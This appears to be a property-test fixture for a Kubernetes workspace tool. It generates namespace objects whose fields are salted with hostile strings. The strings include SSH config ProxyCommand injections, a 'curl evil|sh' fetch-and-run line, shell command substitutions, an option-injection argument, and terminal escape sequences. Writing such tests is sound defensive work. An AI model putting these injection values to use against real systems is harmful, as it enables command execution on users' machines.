/**
 * Objects of a namespace in which somebody else writes, too: any field may hold anything that the API server lets
 * through, and more.
 */
import fc from 'fast-check';
import type { WorkspaceObjects } from '../../../src/adapters/kubernetes/objects/snapshot.ts';
import { labels } from '../../unit/kubernetes/fixtures.ts';
import { hostileText } from '../property.ts';

/** What would take effect in one of the places where words of a cluster go. */
const INJECTIONS = [
  'x\nHost *\n  ProxyCommand sh -c "id >/tmp/pwned"\n#',
  'x\n  ProxyCommand id',
  'x\r\nMatch all\r\nProxyCommand id',
  'a;curl evil|sh;#',
  '$(id)',
  "'; id; '",
  '\u001b]52;c;aGk=\u0007',
  '\u001b[2J\u001b[1;1H',
  '\u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007',
  '\u009b2J',
  '\u202egnp.exe',
  '-oProxyCommand=id',
  '%h',
  '* !',
];

export const hostile = fc.oneof(fc.constantFrom(...INJECTIONS), hostileText);

/** Mostly as it should be, so that what is behind a check is reached as well. */
export function oftenGood<Value>(good: Value) {
  return fc.oneof(
    { arbitrary: fc.constant(good), weight: 3 },
    { arbitrary: hostile as fc.Arbitrary<Value | string>, weight: 1 },
  );
}

const wild = fc.oneof(hostile, fc.constant(undefined), fc.integer(), fc.constant(null));

const annotations = fc.record({
  'ws.dev/user': oftenGood('alice'),
  'ws.dev/home': oftenGood('data'),
  'ws.dev/uid': oftenGood('1000'),
  'ws.dev/gid': oftenGood('1000'),
  'ws.dev/sub-path': oftenGood('projects/my folder'),
});

const metadata = fc
  .record({
    name: oftenGood('ws-dev'),
    uid: oftenGood('0b6c0de8-6e8e-4ba2-8f69-1d1a3a0f7d35'),
    workspace: oftenGood('dev'),
    release: oftenGood('ws-dev'),
    annotations,
    creationTimestamp: oftenGood('2026-06-01T10:00:00Z'),
  })
  .map(({ workspace, release, ...rest }) => ({
    ...rest,
    labels: { ...labels('dev'), 'ws.dev/workspace': workspace, 'app.kubernetes.io/instance': release },
  }));

const container = fc.record({
  name: oftenGood('workspace'),
  image: oftenGood('ws-workspace:0.2.0'),
  ports: fc.constant([{ name: 'ssh', containerPort: 2222 }]),
  volumeMounts: fc
    .record({ mountPath: oftenGood('/home/alice'), subPath: oftenGood('projects/my folder') })
    .map((home) => [
      { name: 'home', ...home },
      { name: 'host-key', mountPath: '/run/secrets/ws/host-key' },
    ]),
});

const podSpec = fc.record({
  nodeName: oftenGood('node-1'),
  containers: container.map((one) => [one]),
  volumes: fc.record({ claim: oftenGood('data'), secret: oftenGood('ws-dev-host-key') }).map(({ claim, secret }) => [
    { name: 'home', persistentVolumeClaim: { claimName: claim } },
    { name: 'host-key', secret: { secretName: secret } },
  ]),
});

const deployment = fc.record({
  metadata,
  spec: fc.record({
    replicas: fc.constantFrom(0, 1),
    template: fc.record({ metadata: fc.record({ annotations }), spec: podSpec }),
  }),
  status: fc.record({
    conditions: hostile.map((message) => [{ type: 'ReplicaFailure', status: 'True', message }]),
  }),
});

const pod = fc.record({
  metadata,
  spec: podSpec,
  status: fc.record({
    phase: oftenGood('Pending'),
    podIP: oftenGood('10.0.0.7'),
    reason: oftenGood('Evicted'),
    message: wild,
    conditions: hostile.map((message) => [{ type: 'PodScheduled', status: 'False', message }]),
    containerStatuses: fc
      .record({ reason: oftenGood('ImagePullBackOff'), message: wild, restartCount: fc.nat(9) })
      .map(({ restartCount, ...waiting }) => [
        { name: 'workspace', restartCount, state: { waiting }, lastState: { terminated: { exitCode: 1, ...waiting } } },
      ]),
  }),
});

const claim = fc.record({
  metadata,
  spec: fc.record({
    storageClassName: oftenGood('fast'),
    resources: oftenGood('10Gi').map((storage) => ({ requests: { storage } })),
  }),
  status: fc.record({ phase: oftenGood('Bound'), capacity: oftenGood('10Gi').map((storage) => ({ storage })) }),
});

const service = fc.record({
  metadata,
  spec: fc.record({ type: oftenGood('ClusterIP'), ports: fc.constant([{ name: 'ssh', port: 22 }]) }),
});

const event = fc.record({
  metadata,
  involvedObject: fc.record({
    kind: oftenGood('Pod'),
    name: oftenGood('ws-dev'),
    fieldPath: oftenGood('spec.containers{workspace}'),
  }),
  type: fc.constantFrom('Normal', 'Warning'),
  reason: oftenGood('FailedMount'),
  message: wild,
  lastTimestamp: oftenGood('2026-06-01T10:00:00Z'),
});

/** A namespace's objects, as the API server might answer. */
export const hostileObjects = fc.record({
  deployments: fc.array(deployment, { maxLength: 2 }),
  pods: fc.array(pod, { maxLength: 2 }),
  services: fc.array(service, { maxLength: 1 }),
  claims: fc.array(claim, { maxLength: 2 }),
  events: fc.array(event, { maxLength: 2 }),
}) as unknown as fc.Arbitrary<WorkspaceObjects>;
